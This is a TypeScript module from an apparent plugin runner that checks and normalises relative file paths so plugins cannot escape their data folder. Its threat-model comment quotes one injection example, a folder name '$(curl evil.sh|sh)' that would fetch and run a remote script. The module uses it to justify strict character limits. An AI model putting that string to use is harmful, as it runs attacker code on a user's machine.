/**
 * Relative paths inside a plugin's data folder: the folders that `fs:` grants
 * name, and the paths that plugins pass to `ctx.fs`.
 *
 * Threat model: a plugin picks its paths to reach files outside its grants.
 * Absolute paths, drive letters and `..` would leave the data folder. A NUL
 * byte would cut the path short in C APIs. A backslash is a separator on
 * Windows but an ordinary character on POSIX, so one text could name two
 * files. Folder names also reach users: a denial message prints
 * `plugrun grant <plugin> fs:<folder>/` for the user to copy into a shell, so
 * a folder named `$(curl evil.sh|sh)` would run code. Each segment is therefore
 * limited to the POSIX portable filename character set (letters, digits, `.`,
 * `_`, `-`), which also rules out control and bidi characters.
 *
 * The checks here are lexical. Symbolic links are not resolved, so the code
 * that opens a file must resolve its real path and check it against the
 * grants again.
 *
 * NOTE: the rules follow POSIX file systems. Windows aliases such as a
 * trailing dot (`a.` is `a`) or device names (`CON`, `NUL`) pass them.
 */

import { describeType, quote } from './arguments.js';
import { invalid } from './errors.js';

declare const checkedPathBrand: unique symbol;

/**
 * A path relative to the data folder, `/`-separated, with no empty, `.` or
 * `..` segments and only portable characters. Only `checkPluginPath` makes one.
 */
export type CheckedPath = string & { readonly [checkedPathBrand]: true };

/** Maximum length of a path or folder, in characters. It matches PATH_MAX in Linux's <linux/limits.h>. */
export const PATH_MAX_CHARS = 4096;

/** Maximum length of one segment, in characters. It matches NAME_MAX in Linux's <linux/limits.h>. */
export const SEGMENT_MAX_CHARS = 255;

const portableSegment = /^[A-Za-z0-9._-]+$/;

/** Either the normalised segments or a sentence saying what is wrong. */
type SplitResult = { readonly segments: string[] } | { readonly problem: string };

/**
 * Splits a relative path into normalised segments. With `allowParent`, a `..`
 * removes the segment before it unless that would leave the data folder.
 * Without it, any `..` is a problem.
 */
const splitRelativePath = (text: string, allowParent: boolean): SplitResult => {
  // 1. Characters that change what the path means, whatever the segments are.
  if (text.length > PATH_MAX_CHARS) return { problem: `is longer than ${PATH_MAX_CHARS} characters` };
  if (text.includes('\0')) return { problem: 'contains a NUL character' };
  if (/\p{Cc}/u.test(text)) return { problem: 'contains a control character' };
  if (text.includes('\\')) return { problem: 'contains a backslash, but folders are separated by "/"' };
  if (text.startsWith('/')) return { problem: "is absolute, but it must be relative to the plugin's data folder" };
  if (/^[A-Za-z]:/.test(text)) return { problem: "starts with a Windows drive, but it must be relative to the plugin's data folder" };

  // 2. Segments: drop empty and `.` ones, resolve or reject `..`, check the rest.
  const segments: string[] = [];
  for (const segment of text.split('/')) {
    if (segment === '' || segment === '.') continue;

    if (segment === '..') {
      if (!allowParent) return { problem: 'contains ".."' };
      if (segments.pop() === undefined) return { problem: "uses .. to leave the plugin's data folder" };
      continue;
    }

    if (segment.length > SEGMENT_MAX_CHARS) {
      return { problem: `has a name longer than ${SEGMENT_MAX_CHARS} characters` };
    }
    if (!portableSegment.test(segment)) {
      return { problem: `contains the name ${quote(segment)}, but names may use only letters, digits, ".", "_" and "-"` };
    }
    segments.push(segment);
  }

  return { segments };
};

/**
 * Normalises the folder of an `fs:` or `fs.read:` capability to `a/b/`, or
 * returns a sentence saying what is wrong. `..` is rejected anywhere, and the
 * folder must be named: empty, `/` and `./` are problems.
 */
export const normaliseGrantFolder = (text: string): { readonly folder: string } | { readonly problem: string } => {
  if (text === '') return { problem: 'is missing, but a folder must be named, as in fs:exports/' };

  const result = splitRelativePath(text, false);
  if ('problem' in result) return result;
  if (result.segments.length === 0) {
    return { problem: 'is the data folder itself, but a folder inside it must be named, as in fs:exports/' };
  }

  return { folder: `${result.segments.join('/')}/` };
};

/**
 * Checks a path a plugin passed to `ctx.fs` and returns it normalised. Throws
 * `PLUGRUN_INVALID` for a value that is not a string (a `Buffer`, a URL, an
 * array), for the characters the file comment lists, and for `..` that leaves
 * the data folder. The empty result means the data folder itself.
 */
export const checkPluginPath = (alleged: unknown, label: string): CheckedPath => {
  if (typeof alleged !== 'string') throw invalid(`${label} must be a string, got ${describeType(alleged)}`);
  if (alleged === '') throw invalid(`${label} is empty`);

  const result = splitRelativePath(alleged, true);
  if ('problem' in result) throw invalid(`${label} ${quote(alleged)} ${result.problem}`);

  return result.segments.join('/') as CheckedPath;
};

/**
 * Prefix of the temporary files that atomic writes create next to their
 * target. Plugin paths may not use it, so a plugin cannot read, replace or
 * delete a write in flight, and the cleanup of stale temporary files never
 * removes a plugin's own file.
 */
export const TEMP_FILE_PREFIX = '.plugrun-tmp-';

/** Checks whether a checked path has a segment that starts with `TEMP_FILE_PREFIX`. */
export const hasReservedSegment = (path: CheckedPath): boolean =>
  path.split('/').some((segment) => segment.startsWith(TEMP_FILE_PREFIX));

/** Returns the folder that contains a normalised path, ending in `/`, or `''` for a path at the top. */
export const parentFolder = (path: string): string => {
  const end = path.lastIndexOf('/', path.endsWith('/') ? path.length - 2 : path.length - 1);
  return end === -1 ? '' : path.slice(0, end + 1);
};

/** Checks whether a text is a path as `checkPluginPath` returns it, optionally ending in `/`. */
export const isNormalisedPath = (path: string): boolean => {
  const body = path.endsWith('/') ? path.slice(0, -1) : path;
  if (body === '') return false;

  return body.split('/').every((segment) => segment !== '.' && segment !== '..' && portableSegment.test(segment));
};
